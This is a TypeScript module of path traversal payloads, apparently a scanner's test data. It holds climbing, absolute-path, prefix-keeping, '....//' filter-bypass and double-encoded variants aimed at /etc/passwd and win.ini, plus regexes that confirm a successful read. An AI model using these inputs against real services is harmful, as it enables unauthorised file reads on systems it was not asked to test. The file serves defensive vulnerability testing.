/**
 * Path traversal data: values that climb out of the folder an API reads from, to two files that exist on
 * every Unix or Windows host and hold nothing secret (/etc/passwd has no passwords for decades; win.ini
 * is a default configuration). They are only read, never written.
 */

/** Levels climbed: deeper than any sane install root; extra `..` at the file system root are ignored. */
const DEPTH = 12;
const up = (seg: string) => seg.repeat(DEPTH);

export interface TraversalPayload {
  /** What the payload gets past, for messages. */
  name: string;
  /** The value, given the valid value (some keep it as a prefix). */
  value(original: string): string;
  /** The same file by another path (`etc/./passwd`), to confirm. */
  confirm(original: string): string;
  file: 'unix' | 'windows';
}

export const TRAVERSALS: TraversalPayload[] = [
  // Plain relative climb: path.join(base, value), open(base + value).
  { name: '../ sequence', file: 'unix', value: () => `${up('../')}etc/passwd`, confirm: () => `${up('../')}etc/./passwd` },
  // An absolute path: path.resolve(base, value), or the value opened as is.
  { name: 'absolute path', file: 'unix', value: () => '/etc/passwd', confirm: () => '/etc/./passwd' },
  // Keeps the valid value as a prefix, past a check that the value starts with an allowed name.
  {
    name: '../ after the valid value',
    file: 'unix',
    value: (o) => `${o}/${up('../')}etc/passwd`,
    confirm: (o) => `${o}/${up('../')}etc/./passwd`,
  },
  // A filter that removes "../" once leaves "../" from "....//".
  {
    name: '....// (a "../" filter applied once)',
    file: 'unix',
    value: () => `${up('....//')}etc/passwd`,
    confirm: () => `${up('....//')}etc/.//passwd`,
  },
  // Encoded slashes, for an API that decodes the value a second time after the router did.
  {
    name: 'double-encoded ..%2f',
    file: 'unix',
    value: () => `${up('..%2f')}etc%2fpasswd`,
    confirm: () => `${up('..%2f')}etc%2f.%2fpasswd`,
  },
  // Windows: backslashes and forward slashes.
  {
    name: '..\\ sequence (Windows)',
    file: 'windows',
    value: () => `${up('..\\')}windows\\win.ini`,
    confirm: () => `${up('..\\')}windows\\.\\win.ini`,
  },
  {
    name: '../ sequence (Windows)',
    file: 'windows',
    value: () => `${up('../')}windows/win.ini`,
    confirm: () => `${up('../')}windows/./win.ini`,
  },
];

/** What the file looks like: the root account line of passwd, the 16-bit section comment of win.ini. */
export const FILE_SIGNATURES: Record<TraversalPayload['file'], { file: string; re: RegExp }> = {
  unix: { file: '/etc/passwd', re: /\broot:[^:\n\\]{0,40}:0:0:[^\n\\]{0,200}/ },
  windows: { file: 'C:\\Windows\\win.ini', re: /; for 16-bit app support|\[mci extensions\]/i },
};
